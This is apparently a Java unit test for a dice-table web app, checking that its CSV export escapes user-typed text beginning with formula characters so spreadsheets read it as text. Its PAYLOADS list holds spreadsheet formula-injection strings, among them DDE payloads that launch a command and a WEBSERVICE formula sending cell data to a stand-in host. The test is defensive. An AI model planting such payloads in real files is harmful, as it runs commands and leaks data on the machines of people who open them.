package io.dicehall.web.tables.control;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.startsWith;

import io.dicehall.api.json.ApiJson;
import io.dicehall.api.state.Outcome;
import io.dicehall.api.state.RollState;
import io.dicehall.api.state.Tone;
import io.dicehall.web.tables.entity.RollStep;
import io.dicehall.web.tables.entity.TableRoll;
import io.dicehall.web.tables.entity.Visibility;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.LocalDateTime;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The CSV export read back as a spreadsheet reads it: no text a person typed may begin with a formula's lead
 * (= + - @ tab CR), sign-and-digit text included; the numbers the server writes stay plain numbers.
 */
class CsvFormulaTest {

    /** Payloads known to run in spreadsheets when a cell begins with them. */
    static final List<String> PAYLOADS = List.of("-2+3+cmd|' /C calc'!A0", "+1+WEBSERVICE(\"http://x.example/\"&A1)",
            "-1+HYPERLINK(\"http://x.example\",\"click\")", "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "+2", "-3", "=cmd|' /C calc'!A0,\"quoted\"");

    private static RollState state() {
        return RollState.builder().step("start", "Thrown").outcome(Outcome.of("success", "Success", Tone.values()[0]))
                .complete().build();
    }

    private static List<CSVRecord> read(String csv) throws Exception {
        String header = String.join(",", ExportWriter.CSV_COLUMNS) + "\r\n";
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(header + csv)).getRecords();
    }

    private static void assertText(CSVRecord row, String column, String typed) {
        String cell = row.get(column);
        assertThat(column + " reads as text", ExportWriter.FORMULA_LEADS.indexOf(cell.charAt(0)), is(-1));
        assertThat(column + " keeps what was typed after the apostrophe", cell, is("'" + typed));
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3, 4, 5, 6, 7, 8, 9})
    void everyTypedCellOfASeenRollReadsAsText(int which) throws Exception {
        String typed = PAYLOADS.get(which);
        TableRoll roll = new TableRoll("r1", "t", 12, "action-rolls", "action-roll", "{}", typed, typed, "m1",
                Visibility.PUBLIC, "hash", LocalDateTime.of(2026, 11, 26, 20, 0, 5)).forCharacter(typed, typed);
        var step = new RollStep("r1", 0, null, null, ApiJson.create().toJson(state()), 2,
                LocalDateTime.of(2026, 11, 26, 20, 0, 5));
        var out = new StringWriter();
        ExportWriter.write(new LogExport.Exported(roll, List.of(step), true), LogExport.Format.CSV, true, out,
                r -> new ExportWriter.Names("Action Rolls", "Action Roll"));
        CSVRecord row = read(out.toString()).get(0);
        assertThat(row.size(), is(ExportWriter.CSV_COLUMNS.size()));
        assertText(row, "roller", typed);
        assertText(row, "character", typed);
        assertText(row, "note", typed);
        assertText(row, "character_id", typed);
        assertThat("the number stays a plain number", row.get("number"), is("12"));
        assertThat(row.get("time"), startsWith("2026-11-26 20:00:05"));
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3, 4, 5, 6, 7, 8, 9})
    void theRollerOfAHiddenRollReadsAsText(int which) throws Exception {
        String typed = PAYLOADS.get(which);
        TableRoll roll = new TableRoll("r1", "t", 3, "action-rolls", "action-roll", "{}", "note", typed, null,
                Visibility.GM, "hash", LocalDateTime.of(2026, 11, 26, 20, 0, 5));
        var out = new StringWriter();
        ExportWriter.write(new LogExport.Exported(roll, List.of(), false), LogExport.Format.CSV, true, out,
                r -> new ExportWriter.Names("Action Rolls", "Action Roll"));
        CSVRecord row = read(out.toString()).get(0);
        assertText(row, "roller", typed);
        assertThat(row.get("number"), is("3"));
    }

    @Test
    void ordinaryTextIsLeftAlone() {
        assertThat(ExportWriter.csv("Ada-Lou"), is("Ada-Lou"));
        assertThat(ExportWriter.csv("2 hits"), is("2 hits"));
        assertThat(ExportWriter.csv(""), is(""));
        assertThat(ExportWriter.csv(null), is(""));
        assertThat(ExportWriter.csv("a, b"), is("\"a, b\""));
    }
}
